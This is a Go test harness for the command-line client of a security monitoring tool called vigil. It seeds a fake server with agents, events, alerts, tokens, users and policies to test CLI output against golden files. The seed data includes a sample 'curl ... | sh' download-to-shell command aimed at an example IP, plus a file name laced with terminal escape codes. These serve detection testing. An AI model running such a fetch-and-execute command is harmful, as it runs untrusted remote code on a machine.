package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"encoding/pem"
	"flag"
	"io"
	"log"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/vigilsec/vigil/internal/apiclient/apiclienttest"
	"github.com/vigilsec/vigil/internal/event"
	"github.com/vigilsec/vigil/internal/store"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/")

// now is the clock of every test: relative times in golden files are
// measured from it.
var now = time.Date(2025, 3, 4, 10, 0, 0, 0, time.UTC)

// harness runs the CLI in-process against an imitation of the center's
// API served over TLS on loopback. The imitation (apiclienttest) follows
// internal/center/api; end-to-end tests in test/e2e run the built vigil
// binary against a real vigil-center.
type harness struct {
	t      *testing.T
	center *apiclienttest.Center
	url    string
	env    map[string]string
}

func newHarness(t *testing.T) *harness {
	t.Helper()
	center := apiclienttest.New(func() time.Time { return now })
	center.AddBearer("admin-token", "admin", store.RoleAdmin)
	center.AddBearer("viewer-token", "viewer", store.RoleViewer)
	seed(center)
	srv := httptest.NewUnstartedServer(center)
	// Refused handshakes are what some tests are about; keep them quiet.
	srv.Config.ErrorLog = log.New(io.Discard, "", 0)
	srv.StartTLS()
	t.Cleanup(srv.Close)
	ca := filepath.Join(t.TempDir(), "ca.pem")
	if err := os.WriteFile(ca, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: srv.Certificate().Raw}), 0o600); err != nil {
		t.Fatal(err)
	}
	return &harness{t: t, center: center, url: srv.URL, env: map[string]string{
		EnvServer: srv.URL, EnvToken: "admin-token", EnvCA: ca,
	}}
}

// syncBuffer is a bytes.Buffer safe for a reader while the CLI writes.
type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

// result is one run of the CLI.
type result struct {
	stdout, stderr string
	code           int
}

// run executes the CLI with args and stdin; the server URL in stderr is
// replaced by SERVER so that messages can be compared.
func (h *harness) run(ctx context.Context, stdin string, args ...string) result {
	h.t.Helper()
	var stdout, stderr syncBuffer
	env := Env{
		Stdin: strings.NewReader(stdin), Stdout: &stdout, Stderr: &stderr,
		Getenv: func(k string) string { return h.env[k] }, Now: func() time.Time { return now },
		PollInterval: 5 * time.Millisecond,
	}
	code := Run(ctx, env, args)
	return result{stdout: stdout.String(), stderr: strings.ReplaceAll(stderr.String(), h.url, "SERVER"), code: code}
}

// ok runs args and fails the test unless the CLI succeeded.
func (h *harness) ok(args ...string) string {
	h.t.Helper()
	r := h.run(context.Background(), "", args...)
	if r.code != 0 {
		h.t.Fatalf("vigil %s: exit %d, stderr %q", strings.Join(args, " "), r.code, r.stderr)
	}
	return r.stdout
}

// golden compares got with testdata/name.golden, rewriting it with -update.
func golden(t *testing.T, name, got string) {
	t.Helper()
	path := filepath.Join("testdata", name+".golden")
	if *update {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -update to create it)", err)
	}
	if diff := cmp.Diff(string(want), got); diff != "" {
		t.Errorf("%s differs (-want +got):\n%s", path, diff)
	}
}

// decodeJSON parses the CLI's JSON output into v.
func decodeJSON(t *testing.T, out string, v any) {
	t.Helper()
	if err := json.Unmarshal([]byte(out), v); err != nil {
		t.Fatalf("output is not JSON: %v\n%s", err, out)
	}
}

func ev(id string, at time.Duration, agent, host, category, action string, fields map[string]any) event.Event {
	e := event.New(id, now.Add(at), category, action)
	e.Set(event.FieldAgentID, agent)
	if host != "" {
		e.Set(event.FieldHostName, host)
	}
	for k, v := range fields {
		e.Set(k, v)
	}
	return e
}

// seed fills the center with a small fleet.
func seed(c *apiclienttest.Center) {
	c.AddAgent(store.Agent{
		ID: "7f3c9a", Hostname: "web-1", Status: store.StatusOnline, StatusChangedAt: now.Add(-26 * time.Hour),
		LastSeen: now.Add(-4 * time.Second), EnrolledAt: now.Add(-30 * 24 * time.Hour),
		Labels: map[string]string{"env": "prod", "role": "web"}, OS: "linux", Platform: "debian", PlatformVersion: "12.9",
		Kernel: "6.1.0-31-amd64", Arch: "amd64", IPs: []string{"10.0.0.5", "fe80::1"}, AgentVersion: "v0.3.0",
		MachineID: "4f1c0e5d9a2b", JoinTokenID: "jt-prod", BootTime: now.Add(-40 * 24 * time.Hour),
		LastState: []byte(`{"plugins":{"host/facts":"ok","exec/proccon":"ok"},"spool_dropped_total":0}`),
	})
	c.AddAgent(store.Agent{
		ID: "b81d02", Hostname: "db-1", Status: store.StatusLost, StatusReason: "connection closed",
		StatusChangedAt: now.Add(-3 * time.Hour), LastSeen: now.Add(-3 * time.Hour), EnrolledAt: now.Add(-30 * 24 * time.Hour),
		Labels: map[string]string{"env": "prod", "role": "db"}, OS: "linux", IPs: []string{"10.0.0.7"},
	})
	c.AddAgent(store.Agent{
		ID: "c0ffee", Hostname: "oa-1", Status: store.StatusStopped, StatusReason: "SIGTERM by pid 812 (systemctl stop vigil-agent)",
		StatusChangedAt: now.Add(-7*time.Hour - 22*time.Minute), LastSeen: now.Add(-7*time.Hour - 22*time.Minute),
		Labels: map[string]string{"env": "test"}, OS: "linux", Platform: "ubuntu", PlatformVersion: "22.04",
	})
	c.AddHistory(
		store.StatusChange{AgentID: "7f3c9a", At: now.Add(-27 * time.Hour), From: store.StatusOnline, To: store.StatusLost, Reason: "connection closed"},
		store.StatusChange{AgentID: "7f3c9a", At: now.Add(-26 * time.Hour), From: store.StatusLost, To: store.StatusOnline, Reason: "connected"},
	)
	c.AddEvents(
		ev("e1", -90*time.Second, "7f3c9a", "web-1", "process", "start", map[string]any{
			"process.executable": "/usr/bin/curl", "process.command_line": "curl -s http://203.0.113.9/x.sh", "user.name": "www-data"}),
		ev("e2", -60*time.Second, "b81d02", "", "network", "connection_attempted", map[string]any{
			"source.ip": "10.0.0.7", "destination.ip": "10.0.0.9", "destination.port": 3000}),
		ev("e3", -30*time.Second, "7f3c9a", "web-1", "file", "creation", map[string]any{
			"file.path": "/tmp/\x1b[31mevil\x1b[0m", "event.category": []any{"file", "malware"}}),
	)
	c.AddAlert(store.Alert{
		ID: "al-1", AgentID: "b81d02", Hostname: "db-1", RuleID: "vigil.agent.lost", Title: "Agent lost without goodbye",
		Severity: store.SeverityMedium, State: store.AlertNew, Techniques: []string{"T1562.001"}, Count: 1,
		CreatedAt: now.Add(-3 * time.Hour), UpdatedAt: now.Add(-3 * time.Hour), LastSeen: now.Add(-3 * time.Hour),
	})
	c.AddAlert(store.Alert{
		ID: "al-2", AgentID: "7f3c9a", Hostname: "web-1", RuleID: "sigma.curl_pipe_sh", Title: "Download piped to a shell",
		Description: "A web process fetched a script and ran it.", Severity: store.SeverityHigh, State: store.AlertAcknowledged,
		Techniques: []string{"T1105", "T1059.004"}, Count: 3, CreatedAt: now.Add(-20 * time.Minute),
		UpdatedAt: now.Add(-5 * time.Minute), LastSeen: now.Add(-90 * time.Second), EventIDs: []string{"e1"},
		Evidence: map[string]any{"process.command_line": "curl -s http://203.0.113.9/x.sh | sh"},
		Comments: []store.AlertComment{{At: now.Add(-5 * time.Minute), Author: "alice", State: store.AlertAcknowledged, Text: "on it"}},
	})
	c.AddJoinToken(store.JoinToken{ID: "jt-prod", Description: "prod web", Labels: map[string]string{"env": "prod"},
		CreatedAt: now.Add(-2 * time.Hour), CreatedBy: "alice", ExpiresAt: now.Add(22 * time.Hour), UsageLimit: 50, Uses: 2})
	c.AddJoinToken(store.JoinToken{ID: "jt-old", Labels: map[string]string{}, CreatedAt: now.Add(-72 * time.Hour),
		CreatedBy: "token:admin", ExpiresAt: now.Add(-48 * time.Hour), Uses: 7})
	c.AddAPIToken(store.APIToken{ID: "at-ci", Name: "ci", Kind: "api", Role: store.RoleAnalyst, CreatedAt: now.Add(-48 * time.Hour),
		LastUsedAt: now.Add(-10 * time.Minute)}, "")
	c.AddAPIToken(store.APIToken{ID: "at-s1", Name: "alice", Kind: "session", UserID: "u-alice", Role: store.RoleAdmin,
		CreatedAt: now.Add(-1 * time.Hour), ExpiresAt: now.Add(11 * time.Hour)}, "")
	c.AddUser(store.User{ID: "u-alice", Name: "alice", Role: store.RoleAdmin, CreatedAt: now.Add(-90 * 24 * time.Hour),
		UpdatedAt: now.Add(-90 * 24 * time.Hour)}, "alice's long password")
	c.AddUser(store.User{ID: "u-bob", Name: "bob", Role: store.RoleViewer, Disabled: true, CreatedAt: now.Add(-10 * 24 * time.Hour),
		UpdatedAt: now.Add(-24 * time.Hour)}, "bob's long password")
	c.AddPolicy(store.AgentPolicy{Name: "base", Selector: map[string]string{}, Priority: 0, Revision: 2,
		Spec:      json.RawMessage(`{"heartbeatIntervalSeconds":"30","collectors":{"host/facts":{"enabled":true,"intervalSeconds":"600"}}}`),
		UpdatedAt: now.Add(-5 * 24 * time.Hour), UpdatedBy: "alice"})
	c.AddPolicy(store.AgentPolicy{Name: "prod", Selector: map[string]string{"env": "prod"}, Priority: 10, Revision: 1,
		Spec:      json.RawMessage(`{"heartbeatIntervalSeconds":"5","spoolMaxMb":"512","budget":{"cpuPercent":5}}`),
		UpdatedAt: now.Add(-2 * time.Hour), UpdatedBy: "token:admin"})
	c.AddAudit(
		store.AuditEntry{At: now.Add(-2 * time.Hour), Actor: "token:admin", Role: store.RoleAdmin, Action: "policy.put", Target: "prod", Result: "ok", SourceIP: "10.0.0.2"},
		store.AuditEntry{At: now.Add(-1 * time.Hour), Actor: "bob", Role: store.RoleViewer, Action: "agent.delete", Target: "b81d02", Result: "denied", SourceIP: "10.0.0.3"},
	)
}
